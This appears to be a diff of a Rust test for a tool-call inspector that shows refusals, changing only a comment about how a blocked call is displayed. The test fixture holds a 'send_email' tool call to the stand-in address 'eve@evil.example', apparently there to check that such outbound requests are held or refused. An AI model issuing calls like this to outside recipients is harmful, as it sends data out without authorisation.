@@ -43,7 +43,7 @@ fn the_inspector_lists_calls_and_shows_refusals() {
     let added = json_of(&inspect(&home, &line, &add));
     assert_eq!(added["structuredContent"]["sum"], 42);
 
-    // Asked about, which nobody can answer here: refused, and shown as the tool's own error.
+    // Asked about: it waits, and is shown as the tool's own error meanwhile.
     let mail =
         ["tools/call", "--tool-name", "send_email", "--tool-arg", "to=eve@evil.example", "body=x"];
     let sent = inspect(&home, &line, &mail);
